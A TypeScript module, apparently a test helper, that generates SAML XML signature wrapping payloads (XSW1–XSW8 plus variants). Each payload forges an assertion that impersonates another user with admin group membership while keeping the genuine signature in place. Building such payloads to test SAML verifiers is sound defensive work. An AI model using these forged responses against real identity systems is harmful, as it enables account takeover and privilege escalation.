/**
 * The eight XML signature wrapping attacks that SAML Raider calls XSW1 to XSW8 (Somorovsky et al., "On Breaking
 * SAML: Be Whoever You Want to Be", USENIX Security 2012), made from a response that a provider really signed.
 * In each, what was signed is still there, somewhere, and a forged message stands where a careless reader looks.
 */
import { assertionOf, signatureOf } from "./saml-idp.ts";

/** What the attacker wants to be. */
const forge = (xml: string): string =>
  xml.replaceAll("ada@shop.example", "mallory@shop.example").replaceAll(">engineers<", ">admins<");

const strip = (xml: string): string => xml.replace(signatureOf(xml), "");
const opening = (xml: string): string => /^<[^>]+>/.exec(xml)?.[0] ?? "";
const withId = (xml: string, id: string): string => xml.replace(/ ID="[^"]*"/, ` ID="${id}"`);
const intoSignature = (signature: string, more: string): string =>
  signature.replace("</ds:Signature>", `${more}</ds:Signature>`);

export type Wrapping = {
  readonly name: string;
  readonly about: string;
  readonly response: string;
  /** The signature that it keeps still verifies, by a reader who looks at nothing else. */
  readonly verifies: boolean;
};

/** `response` has its assertion signed; `whole` is signed as a whole, its assertion too. */
export function wrappings(response: string, whole: string): Wrapping[] {
  const assertion = assertionOf(response);
  const signature = signatureOf(response);
  const original = strip(assertion);
  const forged = withId(forge(original), "_evil");
  const outer = /^<samlp:Response.*?(?=<saml:Assertion)/s.exec(response)?.[0] ?? "";
  const close = "</samlp:Response>";
  // The response's own signature comes first in a response that is signed as a whole.
  const ofResponse = signatureOf(whole);
  const bare = whole.replace(ofResponse, "");
  const own = strip(assertionOf(bare));
  const evilResponse = withId(forge(bare.replace(assertionOf(bare), withId(own, "_evil-too"))), "_evil");
  const extensions = (inside: string): string => `<samlp:Extensions>${inside}</samlp:Extensions>`;
  const object = (inside: string): string => `<ds:Object>${inside}</ds:Object>`;
  const issuer = "</saml:Issuer>";
  const attacks: readonly Omit<Wrapping, "verifies">[] = [
    {
      name: "XSW1",
      about: "a forged response around the signature that holds the signed response",
      response: evilResponse.replace(issuer, `${issuer}${intoSignature(ofResponse, object(bare))}`),
    },
    {
      name: "XSW2",
      about: "a forged response beside a detached signature and the signed response",
      response: evilResponse.replace(issuer, `${issuer}${bare}${ofResponse}`),
    },
    {
      name: "XSW3",
      about: "a forged assertion before the signed one",
      response: `${outer}${forged}${assertion}${close}`,
    },
    {
      name: "XSW4",
      about: "a forged assertion around the signed one",
      response: `${outer}${forged.replace("</saml:Assertion>", `${assertion}</saml:Assertion>`)}${close}`,
    },
    {
      name: "XSW5",
      about: "a forged assertion with the signature, the signed one after it",
      response: `${outer}${forged.replace(issuer, `${issuer}${signature}`)}${original}${close}`,
    },
    {
      name: "XSW6",
      about: "a forged assertion with the signature, which holds the signed one",
      response: `${outer}${forged.replace(issuer, `${issuer}${intoSignature(signature, original)}`)}${close}`,
    },
    {
      name: "XSW7",
      about: "the signed assertion in extensions, a forged one of the same ID after it",
      response: `${outer}${extensions(assertion)}${forge(original)}${close}`,
    },
    {
      name: "XSW8",
      about: "a forged assertion with the signature, the signed one in an object within it",
      response: `${outer}${forge(original).replace(issuer, `${issuer}${intoSignature(signature, object(original))}`)}${close}`,
    },
    // Beyond the eight: what the same idea becomes against a reader that counts or looks at positions.
    {
      name: "XSW3a",
      about: "a forged assertion after the signed one",
      response: `${outer}${assertion}${forged}${close}`,
    },
    {
      name: "XSW6a",
      about: "the signed assertion hidden in a KeyInfo",
      response: `${outer}${forged.replace(issuer, `${issuer}${signature.replace("</ds:KeyInfo>", `${original}</ds:KeyInfo>`)}`)}${close}`,
    },
    {
      name: "XSW5a",
      about: "a forged assertion under the same ID with the signature, and no other",
      response: `${outer}${forge(assertion)}${close}`,
    },
    {
      name: "XSW9",
      about: "the forged assertion in no namespace, the signed one in it",
      response: `${outer}${opening(forged).replace("saml:", "x:").replace(">", ' xmlns:x="urn:x">')}${assertion}</x:Assertion>${close}`,
    },
  ];
  // Where an ID is there twice, a library may well refuse to choose.
  const ambiguous = new Set(["XSW5a", "XSW7", "XSW8"]);
  return attacks.map((attack) => ({ ...attack, verifies: !ambiguous.has(attack.name) }));
}
